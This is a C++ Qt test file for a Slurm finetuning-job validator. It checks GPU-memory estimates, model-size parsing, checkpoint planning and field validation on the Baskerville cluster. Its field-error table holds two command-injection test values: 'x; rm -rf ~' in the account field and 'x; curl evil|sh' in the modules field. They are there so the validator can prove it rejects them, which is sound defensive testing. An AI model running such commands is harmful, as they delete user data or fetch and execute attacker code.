// Validation: every field's checks, the GPU-memory estimate and the time-limit / checkpoint plan.
#include "core/job/jobvalidator.h"
#include "core/job/memoryestimate.h"
#include "core/job/modelshape.h"
#include "core/job/trainingplan.h"
#include "walkthroughspec.h"

#include <QTest>

#include <functional>

using namespace TuneDeck;

using Mutation = std::function<void(JobSpec&)>;
Q_DECLARE_METATYPE(Mutation)

namespace {

const Diagnostic* find(const Diagnostics& diagnostics, const QString& field, Severity severity)
{
    for (const Diagnostic& d : diagnostics) {
        if (d.field == field && d.severity == severity)
            return &d;
    }
    return nullptr;
}

QString dump(const Diagnostics& diagnostics)
{
    QStringList lines;
    for (const Diagnostic& d : diagnostics)
        lines.append(formatDiagnostic(d));
    return lines.join(u'\n');
}

} // namespace

class TestValidation : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void walkthroughIsValid()
    {
        const Diagnostics diagnostics = validateJob(Test::walkthroughSpec(), Test::baskerville());
        QVERIFY2(!hasErrors(diagnostics), qPrintable(dump(diagnostics)));
    }

    void memoryFeasibility_data()
    {
        QTest::addColumn<int>("nodes");
        QTest::addColumn<QString>("gpuType");
        QTest::addColumn<int>("severity"); // of the slurm.nodes memory diagnostic
        QTest::newRow("walkthrough 4x4 a100_40") << 4 << QStringLiteral("a100_40") << int(Severity::Info);
        QTest::newRow("srun section 2x4 a100_80") << 2 << QStringLiteral("a100_80") << int(Severity::Info);
        QTest::newRow("1x4 a100_40 does not fit") << 1 << QStringLiteral("a100_40") << int(Severity::Error);
    }
    void memoryFeasibility()
    {
        QFETCH(int, nodes);
        QFETCH(QString, gpuType);
        QFETCH(int, severity);
        JobSpec spec = Test::walkthroughSpec();
        spec.slurm.nodes = nodes;
        spec.slurm.gpuType = gpuType;
        const Diagnostics diagnostics = validateJob(spec, Test::baskerville());
        const Diagnostic* d = find(diagnostics, QStringLiteral("slurm.nodes"), Severity(severity));
        QVERIFY2(d, qPrintable(dump(diagnostics)));
        // The numbers are shown, not just a verdict.
        QVERIFY2(d->message.contains(QStringLiteral("weights")) && d->message.contains(QStringLiteral("GiB of")),
            qPrintable(d->message));
    }

    void memoryEstimateTerms()
    {
        JobSpec spec = Test::walkthroughSpec();
        const MemoryEstimate e = estimateGpuMemory(spec, 40).value();
        QVERIFY(e.shape.fromCatalog);
        QCOMPARE(e.shape.layers, 80);
        QCOMPARE(e.shardDegree, 16);
        // 70.6e9 bf16 weights over 16 ranks: 8.2 GiB.
        QVERIFY(qAbs(e.weightsGiB - 70.6e9 * 2 / 16 / (1 << 30)) < 0.01);
        // Splitting over fewer ranks grows the weight share; QLoRA shrinks it about fourfold.
        spec.slurm.nodes = 1;
        const MemoryEstimate one = estimateGpuMemory(spec, 40).value();
        QVERIFY(one.weightsGiB > 3.9 * e.weightsGiB);
        spec.training.method = FinetuningMethod::Qlora;
        const MemoryEstimate qlora = estimateGpuMemory(spec, 40).value();
        QVERIFY(qlora.weightsGiB < one.weightsGiB / 3);
        QVERIFY(qlora.totalGiB < 40); // 70B QLoRA on one 4 x A100-40 node is a known working set-up
        // Full finetuning of 70B on 16 x 40 GiB cannot fit (16 bytes per parameter ~ 66 GiB per GPU).
        spec = Test::walkthroughSpec();
        spec.training.method = FinetuningMethod::Full;
        QVERIFY(estimateGpuMemory(spec, 40)->totalGiB > 40);
        // Without gradient checkpointing the activations of all 80 layers are kept.
        spec = Test::walkthroughSpec();
        spec.training.gradientCheckpointing = false;
        QVERIFY(estimateGpuMemory(spec, 40)->activationsGiB > 10 * e.activationsGiB);
    }

    void modelSizeFromName_data()
    {
        QTest::addColumn<QString>("model");
        QTest::addColumn<double>("billions"); // 0: not found
        QTest::newRow("llama3 70b") << QStringLiteral("meta-llama/Meta-Llama-3-70B-Instruct") << 70.0;
        QTest::newRow("llama3.1 70b") << QStringLiteral("meta-llama/Meta-Llama-3.1-70B-Instruct") << 70.0;
        QTest::newRow("llama3.2 3b") << QStringLiteral("meta-llama/Llama-3.2-3B") << 3.0;
        QTest::newRow("qwen 7b lower") << QStringLiteral("Qwen/Qwen2.5-7b-instruct") << 7.0;
        QTest::newRow("fraction") << QStringLiteral("Qwen/Qwen2.5-0.5B") << 0.5;
        QTest::newRow("local path") << QStringLiteral("/bask/models/llama-70b") << 70.0;
        QTest::newRow("no size") << QStringLiteral("gpt2") << 0.0;
        QTest::newRow("fp16 is not a size") << QStringLiteral("model-fp16") << 0.0;
    }
    void modelSizeFromName()
    {
        QFETCH(QString, model);
        QFETCH(double, billions);
        QCOMPARE(parameterBillionsFromName(model).value_or(0), billions);
    }

    void unknownModelSizeWarns()
    {
        JobSpec spec = Test::walkthroughSpec();
        spec.training.model = QStringLiteral("/bask/models/my-model");
        const Diagnostics diagnostics = validateJob(spec, Test::baskerville());
        QVERIFY(find(diagnostics, QStringLiteral("training.model_params_b"), Severity::Warning));
        spec.training.modelParamsBillions = 70;
        QVERIFY(find(validateJob(spec, Test::baskerville()), QStringLiteral("slurm.nodes"), Severity::Info));
    }

    void moreNodesThanBaskervilleHas()
    {
        // The bundled profile knows Baskerville's 46 A100-40 systems (its public hardware page).
        JobSpec spec = Test::walkthroughSpec();
        spec.slurm.nodes = 46;
        const Diagnostics at46 = validateJob(spec, Test::baskerville()); // find() points into it: keep it alive
        const Diagnostic* ok = find(at46, QStringLiteral("slurm.nodes"), Severity::Error);
        QVERIFY2(!ok || !ok->message.contains(u"at most"), qPrintable(ok ? ok->message : QString()));
        spec.slurm.nodes = 47;
        const Diagnostics at47 = validateJob(spec, Test::baskerville());
        const Diagnostic* d = find(at47, QStringLiteral("slurm.nodes"), Severity::Error);
        QVERIFY(d);
        QCOMPARE(d->message, QStringLiteral("Baskerville has at most 46 nodes"));
    }

    void stepsLikeTheWalkthroughLog()
    {
        // Its log: "Num examples = 981", "Total optimization steps = 21".
        const TrainingPlan plan = planTraining(Test::walkthroughSpec());
        QCOMPARE(plan.stepsPerEpoch.value(), 7);
        QCOMPARE(plan.totalSteps.value(), 21);
        QCOMPARE(plan.timeLimitSeconds.value(), 10800);
    }

    void checkpointPlan()
    {
        // 21 steps at ~50 min with a 3 h limit and save_steps 500: killed at step 3 with nothing saved.
        JobSpec spec = Test::walkthroughSpec();
        spec.training.expectedSecondsPerStep = 2987.9;
        Diagnostics diagnostics = validateJob(spec, Test::baskerville());
        const Diagnostic* save = find(diagnostics, QStringLiteral("training.save_steps"), Severity::Warning);
        QVERIFY2(save, qPrintable(dump(diagnostics)));
        QVERIFY(save->message.contains(QStringLiteral("set save_steps to 3 or less")));
        QVERIFY(find(diagnostics, QStringLiteral("slurm.time"), Severity::Warning));
        // With resume on, an attempt that never checkpoints would loop forever: an error.
        spec.resume.enabled = true;
        diagnostics = validateJob(spec, Test::baskerville());
        QVERIFY(find(diagnostics, QStringLiteral("training.save_steps"), Severity::Error));
        // Checkpointing every 2 steps fixes it; the time warning stays but mentions the resume.
        spec.training.saveSteps = 2;
        diagnostics = validateJob(spec, Test::baskerville());
        QVERIFY2(!hasErrors(diagnostics), qPrintable(dump(diagnostics)));
        QVERIFY(find(diagnostics, QStringLiteral("slurm.time"), Severity::Warning)->message.contains(u"resume"));
        // Without a speed estimate, save_steps beyond the run's length still warns.
        spec = Test::walkthroughSpec();
        QVERIFY(find(validateJob(spec, Test::baskerville()), QStringLiteral("training.save_steps"), Severity::Warning));
        spec.training.saveSteps = 7;
        QVERIFY(
            !find(validateJob(spec, Test::baskerville()), QStringLiteral("training.save_steps"), Severity::Warning));
    }

    void fieldErrors_data()
    {
        QTest::addColumn<Mutation>("mutate");
        QTest::addColumn<QString>("field");
        const auto row = [](const char* name, Mutation m, const char* field) {
            QTest::newRow(name) << m << QString::fromLatin1(field);
        };
        row(
            "no account", [](JobSpec& s) { s.slurm.account.clear(); }, "slurm.account");
        row(
            "account injection", [](JobSpec& s) { s.slurm.account = QStringLiteral("x; rm -rf ~"); }, "slurm.account");
        row(
            "account leading dash", [](JobSpec& s) { s.slurm.account = QStringLiteral("-x"); }, "slurm.account");
        row(
            "qos space", [](JobSpec& s) { s.slurm.qos = QStringLiteral("tur ing"); }, "slurm.qos");
        row(
            "partition", [](JobSpec& s) { s.slurm.partition = QStringLiteral("gpu$"); }, "slurm.partition");
        row(
            "time format", [](JobSpec& s) { s.slurm.time = QStringLiteral("3 hours"); }, "slurm.time");
        row(
            "time over limit", [](JobSpec& s) { s.slurm.time = QStringLiteral("11-00:00:00"); }, "slurm.time");
        row(
            "gpu type", [](JobSpec& s) { s.slurm.gpuType = QStringLiteral("h100"); }, "slurm.gpu_type");
        row(
            "gpus per node", [](JobSpec& s) { s.slurm.gpusPerNode = 8; }, "slurm.gpus_per_node");
        row(
            "mem too much", [](JobSpec& s) { s.slurm.mem = QStringLiteral("600G"); }, "slurm.mem");
        row(
            "mem format", [](JobSpec& s) { s.slurm.mem = QStringLiteral("lots"); }, "slurm.mem");
        row(
            "cpus", [](JobSpec& s) { s.slurm.cpusPerTask = 100; }, "slurm.cpus_per_task");
        row(
            "owned directive",
            [](JobSpec& s) {
                s.slurm.extraDirectives = { { QStringLiteral("--output"), QStringLiteral("x") } };
            },
            "slurm.extra_directives");
        row(
            "bad directive name",
            [](JobSpec& s) {
                s.slurm.extraDirectives = { { QStringLiteral("--x y"), QStringLiteral("1") } };
            },
            "slurm.extra_directives");
        row(
            "directive newline",
            [](JobSpec& s) {
                s.slurm.extraDirectives = { { QStringLiteral("--comment"), QStringLiteral("a\nb") } };
            },
            "slurm.extra_directives");
        row(
            "no project", [](JobSpec& s) { s.environment.projectPath.clear(); }, "environment.project_path");
        row(
            "relative project", [](JobSpec& s) { s.environment.projectPath = QStringLiteral("proj"); },
            "environment.project_path");
        row(
            "percent in run dir", [](JobSpec& s) { s.environment.runDir = QStringLiteral("/p/run%j"); },
            "environment.run_dir");
        row(
            "venv newline", [](JobSpec& s) { s.environment.venv = QStringLiteral("/p/v\nenv"); }, "environment.venv");
        row(
            "module injection", [](JobSpec& s) { s.environment.modules = { QStringLiteral("x; curl evil|sh") }; },
            "environment.modules");
        row(
            "model empty", [](JobSpec& s) { s.training.model.clear(); }, "training.model");
        row(
            "dataset", [](JobSpec& s) { s.training.dataset = QStringLiteral("a b"); }, "training.dataset");
        row(
            "template", [](JobSpec& s) { s.training.templateName = QStringLiteral("llama3\n"); }, "training.template");
        row(
            "learning rate", [](JobSpec& s) { s.training.learningRate = QStringLiteral("fast"); },
            "training.learning_rate");
        row(
            "output dir escape", [](JobSpec& s) { s.training.outputDir = QStringLiteral("../../x"); },
            "training.output_dir");
        row(
            "fsdp version", [](JobSpec& s) { s.fsdp.version = 3; }, "fsdp.version");
        row(
            "sharding", [](JobSpec& s) { s.fsdp.shardingStrategy = QStringLiteral("ALL"); }, "fsdp.sharding_strategy");
        row(
            "state dict", [](JobSpec& s) { s.fsdp.stateDictType = QStringLiteral("X"); }, "fsdp.state_dict_type");
        row(
            "port", [](JobSpec& s) { s.launch.port = 80; }, "launch.port");
        row(
            "resume lead",
            [](JobSpec& s) {
                s.resume.enabled = true;
                s.resume.signalLeadSeconds = 10;
            },
            "resume.signal_lead_seconds");
    }
    void fieldErrors()
    {
        QFETCH(Mutation, mutate);
        QFETCH(QString, field);
        JobSpec spec = Test::walkthroughSpec();
        mutate(spec);
        const Diagnostics diagnostics = validateJob(spec, Test::baskerville());
        QVERIFY2(find(diagnostics, field, Severity::Error), qPrintable(dump(diagnostics)));
    }

    void unknownQosWarnsOnly()
    {
        JobSpec spec = Test::walkthroughSpec();
        spec.slurm.qos = QStringLiteral("other");
        const Diagnostics diagnostics = validateJob(spec, Test::baskerville());
        QVERIFY(find(diagnostics, QStringLiteral("slurm.qos"), Severity::Warning));
        QVERIFY(!hasErrors(diagnostics));
    }
};

QTEST_GUILESS_MAIN(TestValidation)
#include "tst_validation.moc"
